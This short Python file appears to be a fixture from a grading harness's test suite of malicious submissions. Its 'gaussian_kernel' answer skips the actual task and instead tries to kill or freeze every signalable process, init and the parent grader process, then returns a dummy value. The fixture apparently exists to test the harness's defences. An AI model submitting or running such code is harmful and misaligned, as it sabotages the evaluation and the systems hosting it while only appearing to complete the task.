from tests.submissions.attacks import WITNESS

ANSWERS = {
    "gaussian_kernel": """
import os, signal
landed = False
def gaussian_kernel(size, sigma):
    global landed
    for number in (signal.SIGKILL, signal.SIGSTOP):
        for pid in (-1, 1, os.getppid()):
            try:
                if pid not in (0, os.getpid()):
                    os.kill(pid, number)
            except OSError:
                pass
    landed = True
    return [[0.0]]
""",
    "conv1d_matrix": WITNESS,
}
